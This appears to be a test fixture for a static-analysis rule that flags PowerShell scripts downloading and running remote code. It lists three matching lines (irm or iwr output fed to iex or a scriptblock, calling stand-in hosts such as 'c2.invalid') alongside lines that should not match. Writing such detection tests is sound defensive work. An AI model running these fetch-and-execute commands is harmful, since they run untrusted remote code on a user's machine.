# ruleid: ps-remote-script
irm https://get.invalid/i.ps1 | iex
# ruleid: ps-remote-script
iex (iwr -UseBasicParsing https://c2.invalid/a).Content
# ruleid: ps-remote-script
& ([scriptblock]::Create((irm https://c2.invalid/a)))
# ok: ps-remote-script
# irm https://get.invalid/i.ps1 | iex
# ok: ps-remote-script
irm https://api.invalid | ConvertTo-Json
# ok: ps-remote-script
Invoke-Expression $cmd
